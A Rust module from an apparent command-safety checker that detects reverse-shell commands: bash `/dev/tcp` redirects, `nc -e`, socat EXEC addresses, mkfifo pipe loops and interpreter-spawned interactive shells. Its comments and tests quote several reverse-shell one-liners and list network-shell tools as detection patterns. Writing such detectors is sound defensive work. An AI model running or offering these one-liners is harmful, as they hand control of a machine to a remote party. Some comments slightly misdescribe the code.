//! `remote-shell`: a command that hands a shell to someone on the network. Worse than
//! `curl … | sh` (one script, seen once): whoever holds the other end types commands for as
//! long as the connection lasts. Three shapes, each read from the parsed command, not its text:
//! * a shell or interpreter whose descriptors bash connects to the network
//!   (`bash -i >& /dev/tcp/h/p 0>&1`), or a connection opened for the rest of the line
//!   (`exec 3<>/dev/tcp/h/p`, zsh's `ztcp`) in a line that runs a shell or interpreter
//!   (`… ; sh <&3 >&3`) or a command whose name comes from a value (`while read l <&3; do
//!   $l; done`). Sending to or probing a port (`echo > /dev/tcp/h/p`) runs nothing;
//! * a shell started by interpreter code as an interactive shell (`os.dup2(s.fileno(), 0);
//!   subprocess.call(["/bin/sh", "-i"])`, `pty.spawn("sh")`): its terminal is whatever
//!   that code connected, a socket in every such one-liner;
//! * a network tool's option that runs a program on the connection (`nc -e /bin/sh`,
//!   `ncat --sh-exec`, `--lua-exec`, `socat TCP:h:p EXEC:sh`);
//! * a shell or interpreter reading its program from a pipeline in which a network tool is
//!   another stage (`nc h p | sh`, the `mkfifo` loop `cat f | sh -i | nc h p > f`);
//! * a terminal opened on another machine's display (`xterm -display 10.0.0.1:1`).

use super::super::names::{folded_key, Key};
use super::super::{wrappers, SimpleCommand};
use super::{reads_program_from_stdin, runs_input};

/// Programs that carry a byte stream to or from another host.
const NETCATS: &[Key] = &[
    folded_key("nc"),
    folded_key("ncat"),
    folded_key("netcat"),
    folded_key("nc.traditional"),
    folded_key("nc.openbsd"),
    folded_key("cryptcat"),
    folded_key("pwncat"),
];
const SOCAT: Key = folded_key("socat");
const TELNET: Key = folded_key("telnet");
const OPENSSL: Key = folded_key("openssl");
const EXEC: Key = folded_key("exec");
const ZTCP: Key = folded_key("ztcp");

/// socat address types that reach another host (`TCP:`, `TCP4-LISTEN:`, `OPENSSL:`, …).
const SOCAT_NETWORK: &[&str] = &[
    "tcp", "udp", "sctp", "dccp", "openssl", "ssl", "socks", "proxy", "ip4", "ip6", "ip-", "vsock",
    "udplite",
];

/// socat address types that run a program on the stream.
const SOCAT_RUN: &[&str] = &["exec:", "system:", "shell:"];

/// Whether `c` (one of `cmds`) gives a shell to the network.
/// `key`: the [`folded_key`] of its name (the caller's, read once per command).
pub(super) fn detect(cmds: &[SimpleCommand], c: &SimpleCommand, key: Key) -> bool {
    if c.name().is_none() {
        return false;
    }
    connected(cmds, c, key)
        || remote_terminal(c)
        || runs_on_connection(c, key)
        || shell_on_network_pipe(cmds, c, key)
        || interpreter_shell(c, key)
}

/// A terminal emulator shown on a display of another host (`-display h:1`, `-d h:1`).
fn remote_terminal(c: &SimpleCommand) -> bool {
    let terminal = matches!(
        c.name(),
        Some("xterm" | "uxterm" | "rxvt" | "urxvt" | "aterm")
    );
    let remote = |display: &str| {
        display.split_once(':').is_some_and(|(host, _)| {
            !host.is_empty() && !matches!(host, "localhost" | "unix" | "127.0.0.1")
        })
    };
    terminal
        && c.words
            .windows(2)
            .any(|p| matches!(p[0].as_str(), "-display" | "-d" | "--display") && remote(&p[1]))
}

/// Runs code it reads, or a program named by a value.
fn runs_code(c: &SimpleCommand) -> bool {
    runs_input(c) || c.is_unknown(0)
}

/// bash connects `c`'s descriptors to the network, and code reads or writes them.
fn connected(cmds: &[SimpleCommand], c: &SimpleCommand, key: Key) -> bool {
    let network = key == ZTCP
        || c.redirects
            .iter()
            .any(|r| r.names_file() && network_device(&r.target));
    if !network {
        return false;
    }
    runs_code(c) || (matches!(key, EXEC | ZTCP) && cmds.iter().any(runs_code))
}

/// An interactive shell that interpreter code starts (see the module docs).
fn interpreter_shell(c: &SimpleCommand, key: Key) -> bool {
    c.wrappers.iter().any(|w| w.name.ends_with(" code"))
        && wrappers::is_shell_key(key)
        && (interactive(c) || c.words.len() == 1)
}

/// `-i` alone or in a cluster (`-li`).
fn interactive(c: &SimpleCommand) -> bool {
    c.words
        .iter()
        .skip(1)
        .any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('i'))
}

/// bash's `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT`: bash compares the name as written,
/// so the spelling is exact (no `//`, no `.` components).
fn network_device(target: &str) -> bool {
    target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
}

fn is_netcat(key: Key) -> bool {
    NETCATS.contains(&key)
}

/// A network tool told to run a program on the connection.
fn runs_on_connection(c: &SimpleCommand, key: Key) -> bool {
    let args = c.words.get(1..).unwrap_or(&[]);
    if is_netcat(key) {
        return args.iter().any(|w| netcat_exec_option(w));
    }
    if key == SOCAT {
        let addresses: Vec<String> = args
            .iter()
            .filter(|w| !w.starts_with('-') || w.len() == 1)
            .map(|w| w.to_ascii_lowercase())
            .collect();
        let runs = addresses
            .iter()
            .any(|a| SOCAT_RUN.iter().any(|p| a.starts_with(p)));
        let network = addresses
            .iter()
            .any(|a| SOCAT_NETWORK.iter().any(|p| a.starts_with(p)));
        return runs && network;
    }
    false
}

/// `-e PROG`, `-c CMD` (alone, glued or in a cluster such as `-lvpe`), `--exec`,
/// `--sh-exec`, `--lua-exec` (ncat), with `=` or a separate value.
fn netcat_exec_option(w: &str) -> bool {
    if let Some(long) = w.strip_prefix("--") {
        let long = long.split('=').next().unwrap_or(long);
        return matches!(long, "exec" | "sh-exec" | "lua-exec");
    }
    match w.strip_prefix('-') {
        Some(cluster) if !cluster.is_empty() => {
            // the letters before a value-taking one are flags; `-e`/`-c` may end the cluster
            // or carry its value glued (`-e/bin/sh`)
            for b in cluster.bytes() {
                match b {
                    b'e' | b'c' => return true,
                    b if b.is_ascii_alphabetic() && !b"gGiopsqwIOTVxX".contains(&b) => continue,
                    _ => return false,
                }
            }
            false
        }
        _ => false,
    }
}

/// A network client, in any of the tools' spellings (`openssl s_client`).
fn is_network_client(c: &SimpleCommand) -> bool {
    let Some(name) = c.name() else { return false };
    let key = folded_key(name);
    is_netcat(key)
        || key == SOCAT
        || key == TELNET
        || (key == OPENSSL
            && c.words
                .iter()
                .skip(1)
                .any(|w| w == "s_client" || w == "s_server"))
        || c.redirects.iter().any(|r| network_device(&r.target))
}

/// A shell (or interpreter) whose program comes through a pipe that a network tool feeds or
/// reads: `nc h p | sh`, `sh -i 2>&1 | nc h p`.
fn shell_on_network_pipe(cmds: &[SimpleCommand], c: &SimpleCommand, key: Key) -> bool {
    if c.pipeline == usize::MAX {
        return false;
    }
    let shell = wrappers::is_shell_key(key);
    if !((shell && interactive(c)) || reads_program_from_stdin(c)) {
        return false;
    }
    cmds.iter()
        .any(|d| d.pipeline == c.pipeline && d.stage != c.stage && is_network_client(d))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn netcat_options() {
        for w in [
            "-e",
            "-c",
            "-e/bin/sh",
            "-lve",
            "-nve",
            "--exec",
            "--sh-exec=sh",
            "--lua-exec",
        ] {
            assert!(netcat_exec_option(w), "{w}");
        }
        for w in [
            "-l",
            "-nvlp",
            "-z",
            "-C",
            "--ssl",
            "-pe",
            "-lvpe",
            "--execute-later",
            "-",
            "e",
        ] {
            // `-pe`: `e` is `-p`'s value (a port named `e`) — no exec
            assert!(!netcat_exec_option(w), "{w}");
        }
    }

    #[test]
    fn network_devices_are_spelled_exactly() {
        assert!(network_device("/dev/tcp/10.0.0.1/4444"));
        assert!(network_device("/dev/udp/h/53"));
        assert!(!network_device("/dev/tcpx"));
        assert!(!network_device("/tmp/dev/tcp/x"));
    }
}
